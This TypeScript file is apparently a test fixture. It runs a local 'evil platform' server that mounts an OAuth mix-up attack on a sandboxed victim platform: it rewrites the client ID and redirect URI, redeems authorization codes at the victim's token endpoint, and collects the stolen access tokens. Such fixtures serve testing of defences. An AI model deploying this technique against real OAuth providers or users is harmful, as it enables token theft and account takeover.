// A platform that attacks another one by OAuth mix-up (RFC 9700, section 4.4): it sends whoever signs in to the consent
// page of the other one, with the client ID used there, and redeems the code that it is given for that.
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Sandbox } from '../../../sandbox/index.ts';
import type { OAuthApplication } from '../../../sandbox/oauth/stores.ts';

interface Attack {
  /** The platform that is attacked. */
  readonly victim: Sandbox;
  /** The user's application there. */
  readonly application: OAuthApplication;
  /** What it is beside that: an ordinary platform. */
  readonly facade: Sandbox;
}

export interface EvilPlatform {
  readonly baseUrl: string;
  readonly apiUrl: string;
  readonly imagesUrl: string | null;
  /** Where the victim is told to send the code: to the address that it was asked for, or to the application's own. */
  redirectTo: 'the address asked for' | 'the callback URL';
  /** How often its authorization page was opened. */
  readonly visits: () => number;
  /** Tokens of the victim that it got. */
  readonly stolen: readonly string[];
  readonly close: () => Promise<void>;
}

export async function startEvilPlatform(attack: Attack): Promise<EvilPlatform> {
  const { victim, application, facade } = attack;
  const stolen: string[] = [];
  let visits = 0;
  const server = createServer(async (request, response) => {
    const url = new URL(request.url ?? '/', 'http://localhost');
    const body = await bodyOf(request);
    const form = new URLSearchParams(body);
    if (url.pathname === '/oauth/authorize') {
      visits += 1;
      const { searchParams } = url;
      searchParams.set('client_id', application.clientId);
      if (platform.redirectTo === 'the callback URL') {
        searchParams.set('redirect_uri', application.callbackUrl);
      }
      return response
        .writeHead(302, { location: victim.baseUrl + url.pathname + url.search })
        .end();
    }
    const isCode = url.pathname === '/oauth/token' && form.get('code') !== 'client-id-check';
    if (!isCode) return forward({ request, response, body, to: facade.baseUrl });
    form.set('client_id', application.clientId);
    if (platform.redirectTo === 'the callback URL') {
      form.set('redirect_uri', application.callbackUrl);
    }
    const answer = await fetch(`${victim.baseUrl}/oauth/token`, { method: 'POST', body: form });
    const text = await answer.text();
    if (answer.ok) stolen.push(JSON.parse(text).access_token);
    response.writeHead(answer.status, { ...OPEN, 'content-type': 'application/json' }).end(text);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const platform: EvilPlatform = {
    baseUrl: `http://localhost:${(server.address() as AddressInfo).port}`,
    apiUrl: facade.apiUrl,
    imagesUrl: facade.imagesUrl,
    redirectTo: 'the address asked for',
    visits: () => visits,
    stolen,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
  return platform;
}

const OPEN = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' };

interface Forwarded {
  readonly request: IncomingMessage;
  readonly response: ServerResponse;
  readonly body: string;
  readonly to: string;
}

async function forward({ request, response, body, to }: Forwarded): Promise<void> {
  const { method = 'GET', url = '/', headers } = request;
  if (method === 'OPTIONS') return void response.writeHead(204, OPEN).end();
  const type = headers['content-type'];
  const answer = await fetch(to + url, {
    method,
    headers: type ? { 'content-type': type } : {},
    ...(body && { body }),
  });
  const contentType = answer.headers.get('content-type') ?? 'text/plain';
  response.writeHead(answer.status, { ...OPEN, 'content-type': contentType });
  response.end(Buffer.from(await answer.arrayBuffer()));
}

async function bodyOf(request: IncomingMessage): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of request) parts.push(part as Buffer);
  return Buffer.concat(parts).toString();
}
